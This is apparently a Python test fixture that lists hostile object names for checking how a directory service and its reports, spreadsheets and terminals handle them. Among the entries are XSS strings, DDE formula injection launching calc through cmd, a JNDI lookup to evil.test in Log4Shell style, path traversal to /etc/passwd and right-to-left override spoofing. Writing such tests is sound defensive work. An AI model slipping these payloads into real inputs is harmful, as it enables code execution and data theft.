"""Names that mean harm: to a report, to a spreadsheet, to a terminal, to a parser of distinguished names."""

RIGHT_TO_LEFT_MARK = "\u200f"
SCRIPT_IN_A_NAME = "DB <script>alert(1)</script> =cmd|'/c calc'"

# Each may be the name of an object: the directory accepts it.
HOSTILE_NAMES = {
    "a script": "<script>alert('x')</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "a formula": "=cmd|'/c calc'!A1",
    "a formula with a plus": "+1+cmd|'/c calc'!A1",
    "quotes": "\"double\" 'single' `back`",
    "separators": 'Comma, plus + semicolon ; less < more > equals = backslash \\ "quote"',
    "a hash": "#0401ff",
    "spaces": " leading and trailing ",
    "from right to left": f"{RIGHT_TO_LEFT_MARK}\u202egnp.exe\u202c",
    "a control character": "bell\x07 escape\x1b[31m red",
    "a line break": "first line\nsecond line",
    "a section sign": "PROTO\u00a71\u00a7",
    "a template": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.test/a}",
    "outside the basic plane": "\U0001f4e7 \U0001f9d1\u200d\U0001f4bb",
    "decomposed": "E\u0301te\u0301 2007",
    "a path": "../../../../etc/passwd",
}
LONG_TEXT = "<b>" + "long " * 13106  # 64 KB, for attributes without a limit
NOT_UTF8 = b"\xff\xfe\xc3\x28\x00 not UTF-8 \xed\xa0\x80"  # for octet strings: others the directory refuses
